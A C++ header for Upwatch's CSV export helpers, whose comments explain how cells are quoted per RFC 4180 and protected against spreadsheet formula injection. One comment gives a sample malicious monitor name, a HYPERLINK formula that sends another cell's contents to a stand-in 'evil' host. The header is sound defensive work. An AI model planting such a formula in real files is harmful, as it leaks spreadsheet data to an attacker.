#pragma once

#include <QString>
#include <QStringList>
#include <QStringView>

// Cells and rows of the CSV files Upwatch writes (`upwatch history export`): RFC 4180, UTF-8,
// safe to open in a spreadsheet. Callers escape each cell with textCell() or numberCell() and
// join them with row(); a cell with no value (no HTTP status, no error) is an empty QString.
namespace Csv {

// A text cell: a monitor name, a URL, an error message — text that came from outside and must
// come back out as the same text, never as something a spreadsheet runs.
//
// 1. Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that begins with
//    = + - or @ as a formula, and a leading tab or CR can hide such a cell from a quick look
//    or from a filter that checks only the first character. A monitor named
//    =HYPERLINK("http://evil/?"&A1,"open") would otherwise be a live link in the export. Such
//    text gets a single quote in front, which spreadsheets show as text and do not run.
//    Only the first character is checked, as OWASP describes: " =1" begins with a space and is
//    text to a spreadsheet. (A reader told to trim spaces on import would see "=1"; that reader
//    has already been told to change the data.)
// 2. RFC 4180 quoting, applied to the final text: a cell with a comma, a double quote, a CR or
//    an LF is put in double quotes and its double quotes are doubled, so the cell cannot split
//    into two cells or two records. Leading and trailing spaces are part of the cell in
//    RFC 4180 and need no quotes. Empty text is an empty cell.
[[nodiscard]] QString textCell(QStringView text);

// A number cell, written as digits with a '-' for negatives. It is not neutralised: a
// spreadsheet reading -5 as the number -5 is the point of the column.
[[nodiscard]] QString numberCell(qint64 value);

// One record: cells (already escaped) joined by commas and ended with CRLF, the RFC 4180 line
// ending, which spreadsheets on every platform read.
[[nodiscard]] QString row(const QStringList &cells);

} // namespace Csv
